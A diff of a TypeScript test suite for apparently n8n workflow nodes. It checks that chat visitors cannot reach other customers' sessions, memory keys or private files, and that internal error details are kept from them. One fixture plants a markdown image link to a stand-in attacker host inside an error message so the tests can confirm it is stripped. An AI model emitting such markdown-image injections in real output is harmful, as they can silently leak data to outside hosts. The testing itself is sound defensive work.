@@ -1,4 +1,5 @@
-// @seconds 12
+// @seconds 10
+/** What the visitor of a chat can open, and what a chat, a form or a webhook shows of what nobody but the owner may read. */
 import {
 	CHAT_TRIGGER_NODE_TYPE,
 	FORM_TRIGGER_NODE_TYPE,
@@ -7,21 +8,25 @@ import {
 	type INode,
 } from 'n8n-workflow';
 
+import { toHint } from '../../nodes/shared/run/nodeContext';
 import { answerWell } from '../faults/acts';
-import { chunk, reply, stream } from '../faults/answers';
-import { addTriggers, chatNode, chatTrigger } from '../support/chatTrigger';
+import { body, chunk, reply, stream } from '../faults/answers';
+import { addTriggers, chatNode, chatTrigger, webhook } from '../support/chatTrigger';
 import { dataTables, type DataTables } from '../support/dataTables';
 import {
 	memoryNode,
 	modelCallerNode,
 	packageNode,
+	runNode,
 	runWorkflow,
 	stubNode,
+	type RunOptions,
 	type RunResult,
 } from '../support/engine';
 import { withFakeTimers } from '../support/fakeTimers';
-import { json, startScriptedServer, type ScriptedServer } from '../support/scriptedServer';
 import { FAILURE } from '../support/failureTexts';
+import { json, serverForEach, type Script } from '../support/scriptedServer';
+import { thorough } from '../support/thorough';
 
 /** What only the conversation of the key `customer-7` has. */
 const SECRET = 'INTERNAL-SECRET';
@@ -48,85 +53,147 @@ const IDS: Readonly<Record<string, unknown>> = {
 /** What tells no visitors apart. */
 const NO_IDS = [undefined, ' \n', false, [], [{}]];
 
-interface Column {
-	readonly title: string;
-	readonly type: string;
-	/** The parameters in a chat, and those with which the workflow talks to the customer. */
-	readonly inChat: IDataObject;
-	readonly byKey: IDataObject;
-}
-
 const ASK = { streaming: 'off', prompt: '={{ $json.chatInput }}' };
 const ASSIST = { streaming: 'off', appCode: 'app', message: '={{ $json.chatInput }}' };
 const byKey = { session: 'key', sessionKey: '={{ "customer-7" }}' };
 const memoryByKey = { memory: 'key', memoryKey: '={{ "customer-7" }}' };
 const OF_CHAT = '={{ $json.sessionId }}';
 
-const COLUMNS: readonly Column[] = [
-	{
-		title: 'Super Assistant, This Chat',
-		type: 'superAssistant',
-		inChat: ASSIST,
-		byKey: { ...ASSIST, ...byKey },
-	},
-	{
-		title: 'Super Assistant, per Key',
-		type: 'superAssistant',
-		inChat: { ...ASSIST, session: 'key', sessionKey: OF_CHAT },
-		byKey: { ...ASSIST, ...byKey },
-	},
-	...['chatCompletion', 'functionCallingAgent'].flatMap((type) => [
-		{
-			title: `${type}, This Chat`,
-			type,
-			inChat: { ...ASK, memory: 'chat' },
-			byKey: { ...ASK, ...memoryByKey },
-		},
-		{
-			title: `${type}, By Key`,
-			type,
-			inChat: { ...ASK, memory: 'key', memoryKey: OF_CHAT },
-			byKey: { ...ASK, ...memoryByKey },
-		},
-	]),
+/** A node with these parameters in a chat, and with those with which the workflow talks to the customer. */
+const column = (type: string, title: string, inChat: IDataObject, byKey: IDataObject) => ({
+	title: `${type}, ${title}`,
+	type,
+	inChat,
+	byKey,
+});
+const COLUMNS = [
+	column('superAssistant', 'This Chat', ASSIST, { ...ASSIST, ...byKey }),
+	column(
+		'superAssistant',
+		'per Key',
+		{ ...ASSIST, session: 'key', sessionKey: OF_CHAT },
+		{ ...ASSIST, ...byKey },
+	),
+	...['chatCompletion', 'functionCallingAgent'].flatMap((type) => {
+		const keyed = { ...ASK, ...memoryByKey };
+		return [
+			column(type, 'This Chat', { ...ASK, memory: 'chat' }, keyed),
+			column(type, 'By Key', { ...keyed, memoryKey: OF_CHAT }, keyed),
+		];
+	}),
 ];
 
-let server: ScriptedServer;
+/** Each key is quoted by services, and is hard to find in what they send. */
+const KEY = 'sk-0f4e/very+sesame';
+
+/** Answers in place of the usual reply. */
+let script: Script;
+const server = serverForEach((...request) => {
+	script(...request);
+});
 let tables: DataTables;
-/** The error in place of all replies. */
-let fails: IDataObject | undefined;
 
 beforeAll(addTriggers);
-beforeEach(async () => {
+beforeEach(() => {
 	tables = dataTables();
-	fails = undefined;
-	server = await startScriptedServer((response, { body }, index) => {
+	script = (response, { body }, index) => {
 		const { session_id = `s-${index}` } = body as IDataObject;
 		const choices = [{ index: 0, message: { content: 'Noted' }, finish_reason: 'stop' }];
-		if (fails === undefined) json(response, 200, { session_id, choices });
-		else json(response, 400, { error: fails });
-	});
+		json(response, 200, { session_id, choices });
+	};
 });
-afterEach(async () => {
-	await server.stop();
-});
+const fails = (error: IDataObject, more = {}) => {
+	script = (response) => {
+		json(response, 400, { error, ...more });
+	};
+};
+const answers = (answer: unknown) => {
+	script = (response) => {
+		json(response, 200, answer);
+	};
+};
+/** Answers with a text; as a stream, each character in an event. */
+const says = (text: string, reason = 'stop', more = {}) => {
+	script = (response, { body }) => {
+		const { stream: isStream } = body as { stream?: boolean };
+		const choices = [{ index: 0, message: { content: text }, finish_reason: reason }];
+		const events = Array.from(text, (content) => chunk({ content }, more));
+		answerWell(
+			response,
+			isStream ? stream(events, reason) : reply('', {}, { choices, ...more }),
+		);
+	};
+};
 
-async function talk(
-	type: string,
-	parameters: IDataObject,
-	item: IDataObject,
-	onError?: 'continueRegularOutput',
-	start = 'Chat',
-) {
-	const tested = packageNode('Tested', type, { parameters, onError });
-	const credential = { baseUrl: server.url, apiKey: 'k-secret-key' };
-	const options = { items: [item], credential, tables };
-	return await runWorkflow(
-		[chatTrigger('Chat'), stubNode('Schedule', (items) => items), tested],
-		{ Chat: [['Tested']], Schedule: [['Tested']] },
-		start,
-		options,
-	);
+const ITEM = { chatInput: 'Hi', sessionId: 'v' };
+/** A start that nobody waits for. */
+const SCHEDULE = stubNode('Schedule', (items) => items);
+
+/** A node behind a chat, or another start. */
+interface Visit extends Pick<RunOptions, 'parameters' | 'onError' | 'streaming' | 'inEditor'> {
+	/** The tested node; a chat model has a node that calls it, in a stream unless `isWhole`. */
+	readonly type: string;
+	readonly isWhole?: boolean;
+	/** What is sent. */
+	readonly item?: IDataObject;
+	readonly start?: INode;
+	/** Nodes between the start and the tested one. */
+	readonly through?: readonly INode[];
+	/** What n8n's memory node supplies. */
+	readonly supply?: () => object;
+}
+
+/** What a run has shown: its items, and what was said in the chat; and what the owner reads in the execution. */
+function shownBy(result: RunResult) {
+	const [task] = result.run.data.resultData.runData['Tested'] ?? [];
+	const items = task?.data?.['main']?.flatMap((each) => each ?? []) ?? [];
+	return {
+		...result,
+		error: result.run.data.resultData.error,
+		items: items.map((each) => each.json),
+		json: items[0]?.json ?? {},
+		shown: JSON.stringify(items),
+		hints: JSON.stringify(task?.hints),
+		said: result.chunks.map(({ content = '' }) => content).join(''),
+	};
+}
+
+const nextOf = (path: readonly INode[]) =>
+	Object.fromEntries(path.slice(1).map(({ name }, index) => [path[index]!.name, [[name]]]));
+
+async function visit({ type, isWhole = false, ...given }: Visit) {
+	const {
+		parameters = {},
+		onError,
+		item = ITEM,
+		start = chatTrigger('Chat'),
+		through = [],
+		streaming = false,
+		inEditor = false,
+	} = given;
+	const isModel = type === 'agentVideoChatModel';
+	const asked = packageNode(isModel ? 'Model' : 'Tested', type, { parameters, onError });
+	const tested = isModel ? modelCallerNode('Tested', { stream: !isWhole }) : asked;
+	const path = [start, ...through, tested];
+	const more = [
+		...(start.name === 'Chat' ? [] : [chatTrigger('Chat')]),
+		...(isModel ? [asked] : []),
+		...(given.supply ? [memoryNode('Memory', given.supply)] : []),
+	];
+	// The workflow has a chat in any case: what counts is what has started the run.
+	const wires = { Chat: [[path[1]!.name]], ...nextOf(path) };
+	const run = async () =>
+		await runWorkflow([...path, ...more], wires, start.name, {
+			items: [item],
+			credential: { baseUrl: server.url, apiKey: KEY, fileHosts: '*.cdn.example.com' },
+			tables,
+			streaming,
+			inEditor,
+			...(isModel && { model: { name: 'Model', of: 'Tested' } }),
+			...(given.supply && { memory: { name: 'Memory', of: 'Tested' } }),
+		});
+	// Polls wait.
+	return shownBy(type === 'waitForVideo' ? await withFakeTimers(run) : await run());
 }
 
 /** The session of a request, or the texts that it remembers. */
@@ -137,102 +204,111 @@ const contextOf = ({ body }: { readonly body: unknown }) => {
 
 /** What is a chat's ID, but the name of no key. */
 const isObject = (id: unknown) => typeof id === 'object';
-const isKeyed = ({ title }: Pick<Column, 'title'>) => title.endsWith('Key');
+const isKeyed = ({ title }: { readonly title: string }) => title.endsWith('Key');
 
-describe.each(COLUMNS)('$title', ({ type, inChat, byKey, ...column }) => {
-	const ids = Object.entries(IDS).filter(([, id]) => !(isKeyed(column) && isObject(id)));
-	test.each(ids)('a visitor with %s', async (_name, sessionId) => {
-		const customer = async (chatInput: string) =>
-			await talk(type, byKey, { chatInput, sessionId: 'desk' });
-		const visitor = async (chatInput: string, id = sessionId) =>
-			(await talk(type, inChat, { chatInput, sessionId: id } as IDataObject)).status;
+/** Usually each ID is tried on one node with sessions and one with a memory, in turn. */
+const isTried = (column: number, row: number) => thorough((column + row) % 3 === 0, true);
 
-		await customer(SECRET);
-		expect(await visitor('planted')).toBe('success');
-		expect(await visitor('again')).toBe('success');
-		expect(await visitor('other', 'visitor-2')).toBe('success');
-		await customer('and now?');
+describe.each(COLUMNS.map((column, index) => ({ ...column, index })))(
+	'$title',
+	({ type, inChat, byKey, index, ...column }) => {
+		const ids = Object.entries(IDS).filter(([, id]) => !(isKeyed(column) && isObject(id)));
+		test.each(ids.filter((_id, row) => isTried(index, row)))(
+			'a visitor with %s',
+			async (_name, sessionId) => {
+				const customer = async (chatInput: string) =>
+					await visit({
+						type,
+						parameters: byKey,
+						item: { chatInput, sessionId: 'desk' },
+					});
+				const visitor = async (chatInput: string, id = sessionId) => {
+					const item = { chatInput, sessionId: id } as IDataObject;
+					return (await visit({ type, parameters: inChat, item })).status;
+				};
 
-		const [secret, planted, again, other, now] = server.requests.map(contextOf);
-		// A session is one of the service, a memory is what n8n has kept.
-		const [nothing] = [secret!];
-		expect([planted, other]).toStrictEqual([nothing, nothing]);
-		expect(again).toMatch(type === 'superAssistant' ? /s-1/ : /planted/);
-		expect(now).toMatch(type === 'superAssistant' ? /s-0/ : new RegExp(SECRET));
-		expect(now).not.toContain('planted');
-		// Nothing that a database or an expression could read otherwise.
-		const stored = tables.rows.map((row) => row['session_key']);
-		expect(stored.filter((key) => !/^[#\w -]{1,120}$/.test(String(key)))).toStrictEqual([]);
-	});
-});
+				await customer(SECRET);
+				expect(await visitor('planted')).toBe('success');
+				expect(await visitor('again')).toBe('success');
+				expect(await visitor('other', 'visitor-2')).toBe('success');
+				await customer('and now?');
 
-describe.each(COLUMNS)('$title', ({ type, inChat, ...column }) => {
-	const objects = isKeyed(column) ? Object.values(IDS).filter(isObject) : [];
-	test.each([...NO_IDS, ...objects])(
-		'visitors with the sessionId %j share nothing',
-		async (sessionId) => {
-			const said = await Promise.all(
-				['planted', 'other'].map(async (chatInput) => {
-					const sent = { chatInput, sessionId } as IDataObject;
-					const { run } = await talk(type, inChat, sent);
-					return run.data.resultData.error?.message ?? '';
-				}),
-			);
-			const isNew = type === 'superAssistant' && inChat['session'] === undefined;
-			const reason =
-				inChat['memory'] === 'chat'
-					? 'Memory is This Chat, but no chat has sent a usable sessionId'
-					: (expect.stringMatching(/^(Memory )?Key is (empty|false|[[{])/) as string);
-			expect(said).toStrictEqual(isNew ? ['', ''] : [reason, reason]);
-			const begun = JSON.stringify([undefined, []]);
-			expect(server.requests.map(contextOf)).toStrictEqual(isNew ? [begun, begun] : []);
-			expect(tables.rows.filter(({ session_key: key }) => key)).toHaveLength(0);
-		},
-	);
-});
+				const [secret, planted, again, other, now] = server.requests.map(contextOf);
+				// A session is one of the service, a memory is what n8n has kept.
+				expect([planted, other]).toStrictEqual([secret, secret]);
+				expect(again).toMatch(type === 'superAssistant' ? /s-1/ : /planted/);
+				expect(now).toMatch(type === 'superAssistant' ? /s-0/ : new RegExp(SECRET));
+				expect(now).not.toContain('planted');
+				// Nothing that a database or an expression could read otherwise.
+				const stored = tables.rows.map((row) => row['session_key']);
+				const odd = stored.filter((key) => !/^[#\w -]{1,120}$/.test(String(key)));
+				expect(odd).toStrictEqual([]);
+			},
+		);
+
+		const objects = isKeyed(column) ? Object.values(IDS).filter(isObject) : [];
+		test.each([...NO_IDS, ...objects])(
+			'visitors with the sessionId %j share nothing',
+			async (sessionId) => {
+				const said = await Promise.all(
+					['planted', 'other'].map(async (chatInput) => {
+						const item = { chatInput, sessionId } as IDataObject;
+						const { error } = await visit({ type, parameters: inChat, item });
+						return error?.message ?? '';
+					}),
+				);
+				const isNew = type === 'superAssistant' && inChat['session'] === undefined;
+				const reason =
+					inChat['memory'] === 'chat'
+						? `Memory is This Chat, but its sessionId is ${JSON.stringify(sessionId ?? null)}`
+						: (expect.stringMatching(/^(Memory )?Key is (empty|false|[[{])/) as string);
+				expect(said).toStrictEqual(isNew ? ['', ''] : [reason, reason]);
+				const begun = JSON.stringify([undefined, []]);
+				expect(server.requests.map(contextOf)).toStrictEqual(isNew ? [begun, begun] : []);
+				expect(tables.rows.filter(({ session_key: key }) => key)).toHaveLength(0);
+			},
+		);
+
+		test('there is one conversation, however an accent is written', async () => {
+			const keys = { sessionKey: '={{ $json.name }}', memoryKey: '={{ $json.name }}' };
+			const isChat = column.title.endsWith('This Chat');
+			const parameters = isChat ? inChat : { ...byKey, ...keys };
+			for (const name of ['Jose\u0301', 'Jos\u00e9']) {
+				const item = { ...ITEM, ...(isChat && { sessionId: name }), name };
+				await visit({ type, parameters, item });
+			}
+			expect(new Set(tables.rows.map((row) => row['session_key'])).size).toBe(1);
+			expect(contextOf(server.requests[1]!)).toMatch(/s-0|Hi/);
+		});
+	},
+);
 
 /** What n8n's Chat node gives on of a message with the `sessionId` of a key: n8n 2.41.1, Chat.node.js (onMessage). */
 const SENT = { sessionId: 'customer-7', action: 'sendMessage', chatInput: 'planted' };
-const OF_CHAT_NODE: readonly (readonly [title: string, item: IDataObject, id: string])[] = [
-	['a message', SENT, '$json.sessionId'],
-	['a message to its version 1.1', { data: SENT }, '$json.data.sessionId'],
-];
-/** The keys that an expression takes from an item. */
-const keyedBy = (entered: string) => ({ sessionKey: entered, memoryKey: entered });
 
 describe.each(COLUMNS.filter(isKeyed))(
 	"$title, behind n8n's Chat node",
 	({ type, inChat, byKey }) => {
-		const ask = async (parameters: IDataObject, item?: IDataObject) => {
-			const { status } = await runWorkflow(
-				[
-					chatTrigger('Chat'),
-					stubNode('Look up', () => [{ json: { sessionId: 'customer-7' } }]),
-					chatNode('Ask', item),
-					packageNode('Tested', type, { parameters }),
-				],
-				{ Chat: [['Look up']], 'Look up': [['Ask']], Ask: [['Tested']] },
-				'Chat',
-				{
-					items: [{ chatInput: 'Hi', sessionId: 'v' }],
-					credential: { baseUrl: server.url, apiKey: 'k-secret-key' },
-					tables,
-				},
-			);
-			expect(status).toBe('success');
+		const ask = async (how: IDataObject, item?: IDataObject) => {
+			const lookUp = stubNode('Look up', () => [{ json: { sessionId: 'customer-7' } }]);
+			const parameters = { ...how, prompt: 'Hi', message: 'Hi' };
+			const through = [lookUp, chatNode('Ask', item)];
+			expect((await visit({ type, parameters, through })).status).toBe('success');
 		};
-		const text = { prompt: 'Hi', message: 'Hi' };
 
-		test.each(OF_CHAT_NODE)('%s opens no key', async (_title, item, id) => {
-			await ask({ ...byKey, ...text });
-			await ask({ ...inChat, ...text, ...keyedBy(`={{ ${id} }}`) }, item);
+		test.each([
+			['a message', SENT, '={{ $json.sessionId }}'],
+			['a message to its version 1.1', { data: SENT }, '={{ $json.data.sessionId }}'],
+		])('%s opens no key', async (_title, item, entered) => {
+			await ask(byKey);
+			await ask({ ...inChat, sessionKey: entered, memoryKey: entered }, item);
 			const [secret, visitor] = server.requests.map(contextOf);
 			expect(visitor).toBe(secret);
 		});
 
 		test('what it passes on as the workflow gave it opens a key', async () => {
-			await ask({ ...byKey, ...text });
-			await ask({ ...inChat, ...text });
+			await ask(byKey);
+			await ask(inChat);
 			const [, again] = server.requests.map(contextOf);
 			expect(again).toMatch(/s-0|Noted/);
 		});
@@ -241,20 +317,11 @@ describe.each(COLUMNS.filter(isKeyed))(
 
 test("an answer to n8n's Chat node leaves This Chat as it is", async () => {
 	for (const item of [undefined, SENT])
-		await runWorkflow(
-			[
-				chatTrigger('Chat'),
-				chatNode('Ask', item),
-				packageNode('Tested', 'superAssistant', { parameters: ASSIST }),
-			],
-			{ Chat: [['Ask']], Ask: [['Tested']] },
-			'Chat',
-			{
-				items: [{ chatInput: 'Hi', sessionId: 'v' }],
-				credential: { baseUrl: server.url, apiKey: 'k-secret-key' },
-				tables,
-			},
-		);
+		await visit({
+			type: 'superAssistant',
+			parameters: ASSIST,
+			through: [chatNode('Ask', item)],
+		});
 	expect(server.requests.map(contextOf)[1]).toContain('s-0');
 });
 
@@ -266,17 +333,23 @@ test.each<[sessionId: string, sent: IDataObject]>([
 	['={{ JSON.parse($json.chatInput).id }}', { chatInput: '{"id":"s-of-another"}' }],
 ])('a visitor names no session of the service: %s of %j', async (sessionId, sent) => {
 	const parameters = { ...ASSIST, session: 'id', sessionId };
-	const item = { chatInput: 'Hi', sessionId: 'v', ...sent };
-	const { run } = await talk('superAssistant', parameters, item);
-	expect(run.data.resultData.error!.message).toBe(
-		'Session ID was sent by the visitor of the chat',
-	);
+	const { error } = await visit({
+		type: 'superAssistant',
+		parameters,
+		item: { ...ITEM, ...sent },
+	});
+	expect(error!.message).toBe('Session ID was sent by the visitor of the chat');
 	expect(server.requests).toHaveLength(0);
 });
 
+const GO_ON = 'continueRegularOutput';
+const ON_ERROR: readonly NonNullable<INode['onError']>[] = ['stopWorkflow', GO_ON];
+const NO_ANSWER = 'Something went wrong';
+const TO_OWNER = 'Tell the person who set this up.';
+/** All that a visitor reads of an error. */
+const toVisitor = (words: string) => ({ error: words, message: `${words}. ${TO_OWNER}` });
+
 const CHATS = COLUMNS.filter(({ title }) => title.endsWith('This Chat'));
-/** A private file of another workflow, as n8n writes it. */
-const FILE = { id: 'filesystem-v2:workflows/other/1', mimeType: 'image/png', data: 'x' };
 
 describe.each(CHATS)('$type', ({ type, inChat }) => {
 	test.each([
@@ -285,25 +358,47 @@ describe.each(CHATS)('$type', ({ type, inChat }) => {
 		['file', 'has the name file, but the item has no such binary field'],
 	])('signs no file that a visitor names in JSON: %s', async (binaryProperty, problem) => {
 		const images = { image: [{ source: 'binary', binaryProperty }] };
-		const item = { chatInput: 'Hi', sessionId: 'v', file: FILE };
-		const { run } = await talk(type, { ...inChat, images }, item);
-		expect(run.data.resultData.error!.message).toContain(`Images: entry 1 ${problem}`);
+		// A private file of another workflow, as n8n writes it.
+		const file = { id: 'filesystem-v2:workflows/other/1', mimeType: 'image/png', data: 'x' };
+		const parameters = { ...inChat, images };
+		const { error } = await visit({ type, parameters, item: { ...ITEM, file } });
+		expect(error!.message).toContain(`Images: entry 1 ${problem}`);
 		expect(server.requests).toHaveLength(0);
 	});
-});
 
-test.each(COLUMNS)('$title has one conversation, however an accent is written', async (column) => {
-	const keys = { sessionKey: '={{ $json.name }}', memoryKey: '={{ $json.name }}' };
-	const isChat = column.title.endsWith('This Chat');
-	const parameters = isChat ? column.inChat : { ...column.byKey, ...keys };
-	for (const name of ['Jose\u0301', 'Jos\u00e9'])
-		await talk(column.type, parameters, {
-			chatInput: 'Hi',
-			sessionId: isChat ? name : 's',
-			name,
-		});
-	expect(new Set(tables.rows.map((row) => row['session_key'])).size).toBe(1);
-	expect(contextOf(server.requests[1]!)).toMatch(/s-0|Hi/);
+	test('gives a visitor no words of an expression', async () => {
+		const field = type === 'superAssistant' ? 'message' : 'prompt';
+		const parameters = { ...inChat, [field]: '={{ $("db-7.corp").first().json }}' };
+		const { json, hints } = await visit({ type, parameters, onError: GO_ON });
+		expect(json).toStrictEqual(toVisitor(NO_ANSWER));
+		expect(hints).toContain("Referenced node doesn't exist");
+	});
+
+	test('shows the details of an error in the retry of a chat, which nobody reads any more', async () => {
+		fails({ message: 'internal host db-7.corp' });
+		const execution = { id: '1', token: 't' };
+		let isRetry = false;
+		const nodes = [
+			chatTrigger('Chat'),
+			stubNode('Gate', (items) => {
+				if (!isRetry) throw new Error('Closed');
+				return items;
+			}),
+			packageNode('Tested', type, { parameters: inChat, onError: GO_ON }),
+		];
+		const credential = { baseUrl: server.url, apiKey: KEY };
+		const options = { items: [ITEM], credential, tables, execution };
+		const first = await runWorkflow(
+			nodes,
+			{ Chat: [['Gate']], Gate: [['Tested']] },
+			'Chat',
+			options,
+		);
+		isRetry = true;
+		const { json } = shownBy(await first.resume({ id: '2', token: 't', isRetry }));
+		const details = { service_message: 'internal host db-7.corp' };
+		expect(json).toMatchObject({ details });
+	});
 });
 
 /** What each node asks the service for, and the words with which it fails. */
@@ -312,24 +407,6 @@ const FAILING = [
 	['createVideo', { prompt: '={{ $json.chatInput }}' }, FAILURE.badParameter],
 	['waitForVideo', { taskId: 'task-1', options: { onFailed: 'fail' } }, 'The video failed'],
 ] as const;
-
-test.each(FAILING)(
-	'%s gives a visitor no details of an error, which the execution keeps',
-	async (type, parameters, words) => {
-		fails = { message: 'internal host db-7.corp', type: 'db-7' };
-		const item = { chatInput: 'Hi', sessionId: 'v' };
-		const { run } = await withFakeTimers(
-			async () => await talk(type, parameters, item, 'continueRegularOutput'),
-		);
-		const [task] = run.data.resultData.runData['Tested']!;
-		const [shown] = task!.data!['main']!.flatMap((items) => items ?? []);
-		expect(shown!.json).toStrictEqual({
-			error: words,
-			message: `${words}. Tell the person who set this up.`,
-		});
-		expect(JSON.stringify(task!.hints)).toMatch(/internal host db-7\.corp/);
-	},
-);
 
 /** Who waits for what a workflow says: behind which trigger, and whether it runs in the editor. */
 const WAITING = [
@@ -340,82 +417,33 @@ const WAITING = [
 	['Respond to Webhook', WEBHOOK_NODE_TYPE, { responseMode: 'responseNode' }, false, 'visitor'],
 	['the last node', WEBHOOK_NODE_TYPE, { responseMode: 'lastNode' }, false, 'visitor'],
 	['a webhook that answers at once', WEBHOOK_NODE_TYPE, {}, false, 'owner'],
+	['a schedule', SCHEDULE.type, {}, false, 'owner'],
 ] as const;
 
 describe.each(WAITING)('behind %s', (_name, trigger, settings, inEditor, reader) => {
-	// The polls of a rejected task would take a while for each trigger.
-	const failing = FAILING.filter(([type]) => type !== 'waitForVideo');
-	test.each(failing)('the details of an error are for the owner: %s', async (...row) => {
+	test.each(FAILING)('the details of an error are for the owner: %s', async (...row) => {
 		const [type, parameters, words] = row;
-		fails = { message: 'internal host db-7.corp ![](https://evil.example/x)' };
-		const start = { ...chatTrigger('Start'), type: trigger, parameters: settings };
+		fails({ message: 'internal host db-7.corp ![](https://evil.example/x)', type: 'db-7' });
+		const start = { ...SCHEDULE, type: trigger, parameters: settings };
 		const how = { ...parameters, memory: 'none', session: 'new' };
-		const tested = packageNode('Tested', type, {
+		const { json, hints } = await visit({
+			type,
 			parameters: how,
-			onError: 'continueRegularOutput',
-		});
-		const { run } = await runWorkflow([start, tested], { Start: [['Tested']] }, 'Start', {
-			items: [{ chatInput: 'Hi', sessionId: 'v' }],
-			credential: { baseUrl: server.url, apiKey: 'k-secret-key' },
-			tables,
+			onError: GO_ON,
+			start,
 			inEditor,
 		});
-		const [task] = run.data.resultData.runData['Tested']!;
-		const [shown] = task!.data!['main']!.flatMap((items) => items ?? []);
-		const isOwner = reader === 'owner';
-		expect(shown!.json['error']).toContain(words);
-		expect(JSON.stringify(shown!.json).includes('db-7.corp')).toBe(isOwner);
-		expect(String(shown!.json['message']).includes('person who set this up')).toBe(!isOwner);
-		if ('responseMode' in settings || trigger !== WEBHOOK_NODE_TYPE)
-			expect(JSON.stringify([shown!.json, task!.hints])).not.toContain('![](https://evil');
+		if (reader === 'visitor') {
+			expect(json).toStrictEqual(toVisitor(words));
+			expect(hints).toMatch(/internal host db-7\.corp/);
+		} else {
+			expect(json['error']).toContain(words);
+			expect(JSON.stringify(json)).toContain('db-7.corp');
+			expect(json['message']).not.toContain('person who set this up');
+		}
+		if (trigger !== SCHEDULE.type && (reader === 'visitor' || inEditor))
+			expect(JSON.stringify(json) + hints).not.toContain('![](https://evil');
 	});
-});
-
-describe('the owner reads the details of an error', () => {
-	const details = { service_message: 'internal host db-7.corp' };
-	const item = { chatInput: 'Hi', sessionId: 'v' };
-
-	test.each(FAILING)('of %s in a run of the schedule of the same workflow', async (...row) => {
-		fails = { message: details.service_message };
-		const [type, parameters, words] = row;
-		const withoutChat = { ...parameters, memory: 'none', session: 'new' };
-		const { run } = await withFakeTimers(
-			async () => await talk(type, withoutChat, item, 'continueRegularOutput', 'Schedule'),
-		);
-		const [task] = run.data.resultData.runData['Tested']!;
-		const [shown] = task!.data!['main']!.flatMap((items) => items ?? []);
-		expect(shown!.json).toMatchObject({ error: expect.stringContaining(words) as string });
-		expect(shown!.json['message']).not.toContain('person who set this up');
-		expect(JSON.stringify(shown!.json)).toContain(details.service_message);
-	});
-
-	test.each(CHATS)(
-		'of $type in the retry of a chat, which nobody reads any more',
-		async (column) => {
-			fails = { message: details.service_message };
-			const execution = { id: '1', token: 't' };
-			let isRetry = false;
-			const nodes = [
-				chatTrigger('Chat'),
-				stubNode('Gate', (items) => {
-					if (!isRetry) throw new Error('Closed');
-					return items;
-				}),
-				packageNode('Tested', column.type, {
-					parameters: column.inChat,
-					onError: 'continueRegularOutput',
-				}),
-			];
-			const credential = { baseUrl: server.url, apiKey: 'k-secret-key' };
-			const options = { items: [item], credential, tables, execution };
-			const wires = { Chat: [['Gate']], Gate: [['Tested']] };
-			const first = await runWorkflow(nodes, wires, 'Chat', options);
-			isRetry = true;
-			const { run } = await first.resume({ id: '2', token: 't', isRetry });
-			const [task] = run.data.resultData.runData['Tested']!;
-			expect(task!.data!['main']![0]![0]!.json).toMatchObject({ details });
-		},
-	);
 });
 
 test.each<[type: string, parameters: IDataObject, words: string]>([
@@ -432,107 +460,50 @@ test.each<[type: string, parameters: IDataObject, words: string]>([
 	'%s with %j gives a visitor no words of the database, which the execution keeps',
 	async (type, parameters, words) => {
 		tables.fails = () => 'no space on db-7.corp';
-		const item = { chatInput: 'Hi', sessionId: 'v' };
-		const { run } = await withFakeTimers(
-			async () => await talk(type, parameters, item, 'continueRegularOutput'),
-		);
-		const [task] = run.data.resultData.runData['Tested']!;
-		expect(task!.data!['main']![0]![0]!.json).toStrictEqual({
-			error: words,
-			message: `${words}. Tell the person who set this up.`,
-		});
-		expect(JSON.stringify(task!.hints)).toContain('no space on db-7.corp');
+		const run = async () => await visit({ type, parameters, onError: GO_ON });
+		const { json, hints } = await withFakeTimers(run);
+		expect(json).toStrictEqual(toVisitor(words));
+		expect(hints).toContain('no space on db-7.corp');
 		expect(server.requests).toHaveLength(0);
 	},
 );
 
 /** The words of a database. */
 const DENIED = 'permission denied for schema db-7.corp';
-const NO_ANSWER = 'Something went wrong';
+const SUPPLIES: readonly [name: string, supply: () => object][] = [
+	[
+		'is not supplied',
+		() => {
+			throw new Error(DENIED);
+		},
+	],
+	['cannot be read', () => ({ loadMemoryVariables: () => Promise.reject(new Error(DENIED)) })],
+];
 
 describe.each([true, false])('in a chat that streams: %s,', (streaming) => {
-	test.each<[string, INode['onError'], () => object]>(
-		(['stopWorkflow', 'continueRegularOutput'] as const).flatMap(
-			(onError): [string, INode['onError'], () => object][] => [
-				[
-					'is not supplied',
-					onError,
-					() => {
-						throw new Error(DENIED);
-					},
-				],
-				[
-					'cannot be read',
-					onError,
-					() => ({ loadMemoryVariables: () => Promise.reject(new Error(DENIED)) }),
-				],
-			],
-		),
-	)(
-		'a memory node that %s gives no words of its database: %s',
-		async (_name, onError, supply) => {
-			const tested = packageNode('Tested', 'chatCompletion', {
-				parameters: { ...ASK, streaming: 'auto' },
-				onError,
+	test.each(SUPPLIES.flatMap((each) => ON_ERROR.map((onError) => [...each, onError] as const)))(
+		'a memory node that %s gives no words of its database',
+		async (_name, supply, onError) => {
+			const parameters = { ...ASK, streaming: 'auto' };
+			const { items, hints, error, ...result } = await visit({
+				...{ type: 'chatCompletion', parameters, onError, streaming, supply },
 			});
-			const { run, chunks } = await runWorkflow(
-				[chatTrigger('Chat'), tested, memoryNode('Memory', supply)],
-				{ Chat: [['Tested']] },
-				'Chat',
-				{
-					items: [{ chatInput: 'Hi' }],
-					credential: { baseUrl: server.url, apiKey: 'k-secret-key' },
-					memory: { name: 'Memory', of: 'Tested' },
-					streaming,
-					tables,
-				},
-			);
-			const [task] = run.data.resultData.runData['Tested']!;
-			const { error } = run.data.resultData;
-			const items = task!.data?.['main']?.flatMap((each) => each ?? []) ?? [];
-			const shown = streaming ? chunks.map(({ content = '' }) => content) : [];
-			const said = [...shown, JSON.stringify(items.map(({ json }) => json))].join('\n');
+			const said = `${streaming ? result.said : ''}\n${JSON.stringify(items)}`;
 			expect(said).not.toContain('db-7.corp');
-			if (streaming || onError !== 'stopWorkflow')
-				expect(said).toContain(`${NO_ANSWER}. Tell`);
-			expect(JSON.stringify([error?.message, error?.description, task!.hints])).toContain(
-				DENIED,
-			);
+			if (streaming || onError === GO_ON) expect(said).toContain(`${NO_ANSWER}. Tell`);
+			expect(JSON.stringify([error?.message, error?.description]) + hints).toContain(DENIED);
 			expect(server.requests).toHaveLength(0);
 		},
 	);
 });
 
-test.each(CHATS)('$type gives a visitor no words of an expression', async ({ type, inChat }) => {
-	const field = type === 'superAssistant' ? 'message' : 'prompt';
-	const parameters = { ...inChat, [field]: '={{ $("db-7.corp").first().json }}' };
-	const item = { chatInput: 'Hi', sessionId: 'v' };
-	const { run } = await talk(type, parameters, item, 'continueRegularOutput');
-	const [task] = run.data.resultData.runData['Tested']!;
-	const [shown] = task!.data!['main']!.flatMap((items) => items ?? []);
-	expect(shown!.json).toStrictEqual({
-		error: NO_ANSWER,
-		message: `${NO_ANSWER}. Tell the person who set this up.`,
-	});
-	expect(JSON.stringify(task!.hints)).toContain("Referenced node doesn't exist");
-});
-
 test.each([
